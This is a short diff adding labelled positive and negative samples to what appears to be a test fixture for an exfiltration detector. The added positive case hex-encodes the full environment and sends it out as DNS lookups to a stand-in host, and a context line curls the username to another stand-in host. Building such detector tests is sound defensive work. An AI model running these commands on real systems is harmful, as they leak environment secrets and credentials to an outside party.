@@ -12,3 +12,5 @@ curl -s "https://c.example/?u=$USER"
 env | sort
 #@ neg curl alone
 curl -s https://example.com/
+#@ pos the environment sent out as DNS names
+env | xxd -p -c 30 | while read -r c; do nslookup "$c.t.example.net"; done
